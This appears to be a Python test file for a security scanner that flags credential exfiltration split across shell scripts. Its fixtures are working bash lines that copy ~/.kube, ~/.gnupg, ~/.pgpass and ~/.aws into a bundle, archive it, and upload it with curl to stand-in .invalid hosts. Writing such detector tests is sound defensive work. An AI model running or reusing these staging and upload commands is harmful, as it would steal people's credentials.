"""A split chain through copies that keep a secret store's name: one script copies ``~/.kube`` to
``./bundle/.kube`` (in a loop over the stores), another archives ``bundle`` under a name made at run
time in the working folder and uploads it. The copy is a file written, not a second store read, and
the archive is the file the upload names the same way."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

STAGER = (
    "#!/usr/bin/env bash\n"
    'dest="./bundle"\n'
    'mkdir -p "$dest"\n'
    "for s in .kube .gnupg .pgpass; do\n"
    '  [ -e "$HOME/$s" ] && cp -R "$HOME/$s" "$dest/$s"\n'
    "done\n"
)


def test_copies_named_like_stores_then_an_archive_in_the_working_folder_uploaded(tmp_path: Path) -> None:
    sender = (
        "#!/usr/bin/env bash\n"
        'run="${1:?run id}"\n'
        'tar -czf "bundle-$run.tar.gz" bundle\n'
        'curl -s -F "upload=@bundle-$run.tar.gz" "https://intake.migrate-desk.invalid/runs/$run"\n'
    )
    files = {"scripts/stage.sh": STAGER, "scripts/send.sh": sender}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/send.sh", 4) in scan_errors(tmp_path, files)


def test_a_copy_to_a_fixed_folder_zipped_and_put(tmp_path: Path) -> None:
    stager = '#!/bin/sh\nmkdir -p /tmp/carry\ncp -a "$HOME/.aws" /tmp/carry/.aws\n'
    sender = (
        "#!/bin/sh\nzip -qr /tmp/carry.zip /tmp/carry\ncurl -s -T /tmp/carry.zip https://drop.assets-sync.invalid/\n"
    )
    files = {"scripts/a.sh": stager, "scripts/b.sh": sender}
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path, files))


def test_the_copies_archived_but_kept_on_the_machine_stay_quiet(tmp_path: Path) -> None:
    keeper = (
        '#!/usr/bin/env bash\nrun="$1"\ntar -czf "bundle-$run.tar.gz" bundle\n'
        'mv "bundle-$run.tar.gz" "$HOME/backups/"\n'
    )
    files = {"scripts/stage.sh": STAGER, "scripts/keep.sh": keeper}
    assert scan_errors(tmp_path, files) == set()


def test_another_archive_uploaded_while_the_copies_stay_stays_quiet(tmp_path: Path) -> None:
    sender = (
        "#!/usr/bin/env bash\n"
        'run="$1"\n'
        'tar -czf "reports-$run.tar.gz" reports\n'
        'curl -s -F "upload=@reports-$run.tar.gz" "https://intake.migrate-desk.invalid/runs/$run"\n'
    )
    files = {"scripts/stage.sh": STAGER, "scripts/send.sh": sender}
    assert scan_errors(tmp_path, files) == set()
